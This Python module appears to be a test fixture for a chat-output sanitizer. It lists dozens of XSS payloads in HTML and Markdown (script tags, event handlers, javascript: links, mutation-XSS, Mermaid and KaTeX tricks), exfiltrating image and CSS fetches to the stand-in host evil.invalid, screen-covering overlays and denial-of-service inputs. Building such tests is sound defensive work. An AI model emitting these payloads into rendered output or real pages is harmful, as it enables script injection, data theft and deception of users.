"""What a hostile model might say: HTML and Markdown that would run, fetch, or cover something."""

# ruff: noqa: E501, Q003, F541  # a list to be read, not prose

from __future__ import annotations

EVIL = "http://evil.invalid"
RUN = "window.pwned=1"
COVER = "position:fixed;inset:0;z-index:2147483647;background:#fff"

HTML = [
    f"<script>{RUN}</script>", f"<SCRIPT SRC={EVIL}/a.js></SCRIPT>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<img src=x onerror="{RUN}">', f"<img src='{EVIL}/p.png?q=secret'>", f'<IMG """><SCRIPT>{RUN}</SCRIPT>">',
    f'<svg onload="{RUN}"><image href="{EVIL}/s.png"/><use href="{EVIL}/u.svg#x"/></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text x="20" y="20">x</text></a></svg>',
    f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>', f"<svg><style>@import '{EVIL}/c.css'</style></svg>",
    f'<math><maction actiontype="statusline#{EVIL}" xlink:href="javascript:{RUN}">x</maction></math>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<iframe src="javascript:parent.{RUN}"></iframe>', f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e">', f'<form action="{EVIL}/f"><input name=password><button>In</button></form>',
    f'<a href="javascript:{RUN}">x</a><a href=" &#106;avascript:{RUN}">x</a><a href="data:text/html,<script>{RUN}</script>">x</a>',
    f'<div style="{COVER}">cover</div>', f'<style>*{{display:none}} @import "{EVIL}/i.css"; #x{{background:url({EVIL}/b.png)}}</style>',
    f'<link rel=stylesheet href="{EVIL}/l.css"><link rel=dns-prefetch href="{EVIL}"><meta http-equiv=refresh content="0;url={EVIL}">',
    f'<base href="{EVIL}/">', f'<video src="{EVIL}/v" poster="{EVIL}/v.png" onerror="{RUN}"></video><audio src="{EVIL}/a">',
    f'<details open ontoggle="{RUN}">x</details>', f'<body onload="{RUN}">', f'<input autofocus onfocus="{RUN}">',
    f'<table background="{EVIL}/t.png"><td background="{EVIL}/u.png">x', f'<div style="background:url({EVIL}/d.png)">x</div>',
    f"<template shadowrootmode=open><script>{RUN}</script></template>", f'<dialog open style="{COVER}">x</dialog>',
    f'<button popovertarget=x>x</button><div popover id=x style="{COVER}">x</div>', "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
    f"<!--><img src=x onerror={RUN}>-->", f"<![CDATA[<img src=x onerror={RUN}>]]>", f"<?xml-stylesheet href='{EVIL}/x.css'?>", "</div></div></div></main></body>",
    f"&lt;img src=x onerror={RUN}&gt;", "&#60;script&#62;window.pwned=1&#60;/script&#62;", f"<x-y onclick={RUN} style='{COVER}'>x</x-y>",
    f"\\<img src=x onerror={RUN}>", f"\\\\<img src=x onerror={RUN}>", f"`<b>`<img src=x onerror={RUN}>`", f"``` <img src=x onerror={RUN}>",
]  # fmt: skip
MARKDOWN = [
    f"![leak]({EVIL}/m.png?q=secret)", f"![leak][ref]\n\n[ref]: {EVIL}/r.png", f"[![x]({EVIL}/n.png)]({EVIL})",
    f"!\\[x]({EVIL}/w.png)", f"![x\n]({EVIL}/y.png)", f"![]( <{EVIL}/z.png> )", f"[x](javascript:{RUN})", f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})", f"[x](&#106;avascript:{RUN})", f"[x](vbscript:{RUN})", f"[x](data:text/html;base64,PHNjcmlwdD4x)",
    f"<javascript:{RUN}>", f'[x](# "onmouseover={RUN}")', f'[a]({EVIL}"onmouseover="{RUN})', f"[x](https://a.b/\"style=\"{COVER})",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$", f"\\[\\includegraphics{{{EVIL}/k.png}}\\]", f"\\(\\url{{javascript:{RUN}}}\\)",
    f"$$\\htmlStyle{{{COVER}}}{{x}} \\htmlData{{a=b}}{{x}} \\htmlId{{chat-prompt}}{{x}} \\htmlClass{{overlay}}{{x}}$$",
    "$$\\def\\a{\\a\\a}\\a$$", "$$\\rule{99999em}{99999em}$$", "$$\\kern{-9999em}\\smash{\\raisebox{9999em}{x}}$$", "$$\\text{<img src=x onerror=window.pwned=1>}$$",
    f"```mermaid\ngraph TD\nA[<img src=x onerror={RUN}>] --> B\nclick A href \"javascript:{RUN}\"\nclick B call alert()\n```",
    f"```mermaid\n%%{{init: {{'securityLevel': 'loose', 'themeCSS': '*{{{COVER}}} @import url({EVIL}/mm.css)'}}}}%%\ngraph TD\nA[\"<iframe src={EVIL}>\"]\n```",
    f"```html\n<script>{RUN}</script>\n```", f"```\"><img src=x onerror={RUN}>\nx\n```", f"~~~<script>{RUN}</script>\nx\n~~~",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | ![x]({EVIL}/t.png) |", "> " * 200 + "deep", "- " * 200 + "deep", "*" * 3000, "[" * 3000, "`" * 3001,
    "\u202e\u202dreversed\u202c \u2066isolated", "z" + "\u0310\u0311\u0312\u0300\u0301" * 60 + "algo", "\x1b[31mred\x1b[0m \x1b]8;;http://evil.invalid\x07x\x1b]8;;\x07 \x00\x07\x08",
    f"www.evil.invalid {EVIL}/autolink evil@evil.invalid", "<details><summary>x</summary>", "```\nnever closed " + f"<script>{RUN}</script>",
]  # fmt: skip
